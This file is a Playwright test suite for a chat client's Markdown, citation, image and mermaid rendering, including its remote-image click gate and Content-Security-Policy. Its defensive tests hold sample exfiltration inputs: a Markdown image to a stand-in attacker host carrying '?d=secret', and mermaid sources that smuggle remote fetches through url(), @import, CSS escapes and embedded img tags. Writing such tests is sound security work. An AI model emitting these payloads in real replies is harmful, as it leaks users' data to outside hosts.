// Markdown in replies: a streamed reply renders its table, highlighted code and math, stays sanitized, and its
// finished blocks are not rebuilt while later tokens arrive; a cited source shows as a chip.
import { expect, test } from "@playwright/test";
import {
  assistantMessages,
  callTool,
  closeSettings,
  configureEndpoint,
  conversation,
  openSettings,
  pageSettled,
  send,
} from "./fixtures.ts";

test.beforeEach(async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("button", { name: "New thread" })).toBeVisible();
});

test("a streamed reply shows its GFM table, highlighted code and math, and runs nothing", async ({ page }) => {
  await configureEndpoint(page);
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  // Count tables put into a reply's Markdown while it streams: a finished block is inserted once, not per token.
  await page.evaluate(() => {
    const w = window as unknown as { __tablesInserted: number };
    w.__tablesInserted = 0;
    const streaming = '[aria-label="Assistant message"][aria-busy="true"] .markdown';
    new MutationObserver((records) => {
      for (const record of records) {
        const intoReply = (record.target as Element).closest?.(streaming);
        for (const node of record.addedNodes) {
          if (!(node instanceof Element)) continue;
          // A busy machine may insert the table inside a larger block, or render it before the reply's Markdown is
          // put on the page (the first tokens it shows already hold the table): each insertion counts once.
          const tables = node.nodeName === "TABLE" ? [node] : [...node.querySelectorAll("table")];
          for (const table of tables) if (intoReply || table.closest(streaming)) w.__tablesInserted++;
        }
      }
    }).observe(document.body, { subtree: true, childList: true });
  });

  await send(page, "math and code");
  const reply = assistantMessages(page).last();
  await expect(reply).toHaveAttribute("aria-busy", "true");

  const table = reply.getByRole("table");
  await expect(table.getByRole("row")).toHaveCount(3);
  await expect(table.getByRole("cell", { name: "0.17" })).toBeVisible();

  const code = reply.locator("pre code");
  await expect(code.locator(".hljs-keyword").first()).toHaveText("def");
  await expect(code.locator(".hljs-comment")).toHaveText("# squared");

  // Inline and display math as MathML, without the TeX source showing (the third is KaTeX's error for \href).
  await expect(reply.locator("math")).toHaveCount(3);
  await expect(reply.locator('math[display="block"]').locator("mfrac")).toHaveCount(1);
  await expect(reply).not.toContainText("\\frac");
  // Dollar amounts are not math.
  await expect(reply).toContainText("Each run costs $5 and $10 with a GPU.");

  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
  const tablesInserted = await page.evaluate(
    () => (window as unknown as { __tablesInserted: number }).__tablesInserted,
  );
  expect(tablesInserted).toBe(1);
  // The saved reply renders the same way.
  await expect(reply.getByRole("table")).toBeVisible();
  await expect(reply.locator("pre code .hljs-keyword").first()).toHaveText("def");
  await expect(reply.locator("math")).toHaveCount(3);
  // TeX's \href became an error message, not a link; nothing ran.
  expect(await reply.locator("a[href^='javascript'], [onerror], script").count()).toBe(0);
  expect(dialogs).toBe(0);
});

test("a cited source shows as a chip naming its site, with the page's title on hover", async ({ page }) => {
  await configureEndpoint(page);
  // The mock repeats what the tool printed, so the reply holds the citation as a model writes it.
  await send(
    page,
    callTool("bash", { command: "echo 'Rates rose [citation:Fed raises rates](https://www.example.com/news).'" }),
  );
  const chip = assistantMessages(page).last().getByRole("link", { name: "Fed raises rates (example.com)" });
  await expect(chip).toHaveText("example.com");
  await expect(chip).toHaveAttribute("title", "Fed raises rates");
  await expect(chip).toHaveAttribute("href", "https://www.example.com/news");
  await expect(chip).toHaveAttribute("target", "_blank");
  await expect(assistantMessages(page).last()).not.toContainText("citation:");
});

/** A 1×1 PNG, what the routed image host answers. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);

test("a remote image in a reply loads only after Load image; Always shows its host's images at once", async ({
  page,
}) => {
  // The image host is routed here, so what the page asks it for is counted (and nothing leaves the machine).
  const fetched: string[] = [];
  await page.route("http://images.attacker.test/**", (route) => {
    fetched.push(route.request().url());
    // The page fetches an allowed image itself (and shows it from a blob:), so the host must allow it by CORS.
    return route.fulfill({
      status: 200,
      contentType: "image/png",
      headers: { "access-control-allow-origin": "*" },
      body: PNG,
    });
  });
  await configureEndpoint(page);
  // The mock answers "You said: <the message>", so the reply holds the image as a model would write it.
  await send(page, "![chart](http://images.attacker.test/chart.png?d=secret)");
  const reply = assistantMessages(page).last();
  const load = reply.getByRole("button", { name: "Load image from images.attacker.test" });
  await expect(load).toBeVisible();
  await expect(reply).toHaveAttribute("aria-busy", "false");
  expect(await reply.locator("img").count()).toBe(0);
  expect(fetched).toEqual([]);

  await load.click();
  const chart = reply.getByRole("img", { name: "chart" });
  await expect(chart).toBeVisible();
  await expect.poll(() => chart.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  expect(fetched).toEqual(["http://images.attacker.test/chart.png?d=secret"]);
  await expect(chart).toHaveAttribute("src", /^blob:/);
  await expect(load).toBeHidden();

  // "Always" for the host: this image shows, and the next reply's image shows with no click, after a reload too.
  await send(page, "![second](http://images.attacker.test/second.png)");
  const second = assistantMessages(page).last();
  await second.getByRole("button", { name: "Always show images from images.attacker.test" }).click();
  await expect(second.getByRole("img", { name: "second" })).toBeVisible();
  await send(page, "![third](http://images.attacker.test/third.png)");
  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
  await page.reload();
  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
  await expect(page.getByRole("button", { name: /Load image/ })).toHaveCount(0);
  // Another host still waits for a click.
  await send(page, "![other](http://other.attacker.test/x.png)");
  await expect(
    assistantMessages(page).last().getByRole("button", { name: "Load image from other.attacker.test" }),
  ).toBeVisible();

  // Settings → Appearance lists the host, and takes "Always" back: after a reload its images ask again.
  const settings = await openSettings(page, "Appearance");
  await settings.getByRole("button", { name: "Ask again before showing images from images.attacker.test" }).click();
  await expect(settings.getByText("None: every picture from the web waits for a click.")).toBeVisible();
  await closeSettings(page);
  await page.reload();
  await expect(
    conversation(page).getByRole("button", { name: "Load image from images.attacker.test" }).first(),
  ).toBeVisible();
});

// ---- Diagrams name web images too: each one waits for "Load image" like a Markdown image, and nothing a diagram
// names is fetched before. A local server stands in for the remote host and counts what reaches it.

/** The stand-in image host: `/cors/…` answers with CORS headers (the page may read it), `/plain/…` without. */
async function imageHost(): Promise<{ origin: string; hits: string[]; close: () => Promise<void> }> {
  const { createServer } = await import("node:http");
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    const cors = request.url?.startsWith("/cors/");
    response.writeHead(200, {
      "content-type": request.url?.includes(".css") ? "text/css" : "image/png",
      ...(cors && { "access-control-allow-origin": "*" }),
    });
    response.end(request.url?.includes(".css") ? "" : PNG);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * Each way a diagram's source can name something to load; HOST is the stand-in host. mermaid's flowchart grammar
 * refuses parentheses in styles, so styles come through a state diagram's classDef (which takes CSS escapes) and a
 * class diagram's style; a form mermaid refuses shows its error, and may fetch nothing either.
 */
const FETCHING_DIAGRAMS: Record<string, string> = {
  "image node": 'flowchart LR\n  A@{ img: "HOST/cors/node.png", label: "pic", w: 60, h: 60 }',
  "state classDef url()": "stateDiagram-v2\n  classDef k background:url(HOST/cors/bg.png)\n  [*] --> S:::k",
  "class style url()": "classDiagram\n  class A\n  style A fill:url(HOST/cors/style.svg#p)",
  "state classDef escapes": "stateDiagram-v2\n  classDef k fill:u\\72l(HOST/cors/esc.svg#p)\n  [*] --> S:::k",
  "init @import and fonts":
    '%%{init: {"themeCSS": "@import url(HOST/cors/t.css);", "fontFamily": "x;src:url(HOST/cors/f.woff)"}}%%\nflowchart LR\n  A[y]',
  "label <img>": 'flowchart LR\n  A["`<img src=\\"HOST/cors/label.png\\">`"]',
  "C4 sprite": 'C4Context\n  Person(a, "A", "d", $sprite="HOST/cors/sprite.png")',
  "click href": 'flowchart LR\n  A[z]\n  click A href "HOST/cors/click"',
  "unreadable image": 'flowchart LR\n  B@{ img: "HOST/plain/no-cors.png", label: "far", w: 40, h: 40 }',
};

test("a diagram fetches nothing it names until Load image; then the image shows from a blob:", async ({ page }) => {
  test.setTimeout(120_000);
  const host = await imageHost();
  try {
    await configureEndpoint(page);
    for (const [name, source] of Object.entries(FETCHING_DIAGRAMS)) {
      // The mock repeats the message, so the reply holds the diagram as a model would write it.
      await send(page, `${name}\n\`\`\`mermaid\n${source.replaceAll("HOST", host.origin)}\n\`\`\``);
      const reply = assistantMessages(page).last();
      await expect(reply).toHaveAttribute("aria-busy", "false");
      await expect(reply.locator(".mermaid-diagram, .mermaid-error")).toHaveCount(1);
    }
    const host_ = new URL(host.origin).host;
    const imageReply = assistantMessages(page).filter({ hasText: "image node" });
    // Every diagram is drawn and the image node offers its button: whatever they would fetch, they have asked for.
    const load = imageReply.getByRole("button", { name: `Load image from ${host_}` });
    await expect(load).toBeVisible();
    await pageSettled(page);
    expect(host.hits, "requests a diagram made before any click").toEqual([]);

    await load.click();
    const image = imageReply.locator(".mermaid-diagram");
    await expect
      .poll(() => image.evaluate((element) => element.shadowRoot?.querySelector("image")?.getAttribute("href") ?? ""))
      .toMatch(/^blob:/);
    expect(host.hits).toEqual(["/cors/node.png"]);
    await expect(load).toBeHidden();

    // A host that does not let the page read its image: a sentence and its address to open in a new tab.
    const far = assistantMessages(page).filter({ hasText: "unreadable image" });
    await far.getByRole("button", { name: `Load image from ${host_}` }).click();
    await expect(far.getByText(`Fawn could not load this image: ${host_} does not allow it`)).toBeVisible();
    await expect(far.getByRole("link", { name: "Open it in a new tab" })).toHaveAttribute(
      "href",
      `${host.origin}/plain/no-cors.png`,
    );
    expect(host.hits).toEqual(["/cors/node.png", "/plain/no-cors.png"]);
  } finally {
    await host.close();
  }
});

test("the page's CSP lets no image load from an arbitrary web host", async ({ page }) => {
  const response = await page.request.get("/");
  const policies = [response.headers()["content-security-policy"] ?? ""];
  await page.goto("/");
  policies.push((await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")) ?? "");
  for (const policy of policies) {
    const imgSrc = /(?:^|;)\s*img-src([^;]*)/.exec(policy)?.[1]?.trim().split(/\s+/) ?? [];
    expect(imgSrc, policy).toEqual(["'self'", "data:", "blob:"]);
  }
  // And so an <img> pointing at one, put into the page by anything, stays empty.
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const image = document.createElement("img");
        image.src = "http://attacker.invalid/pixel.png";
        document.body.append(image);
      }),
  );
  expect(blocked).toBe("img-src");
});
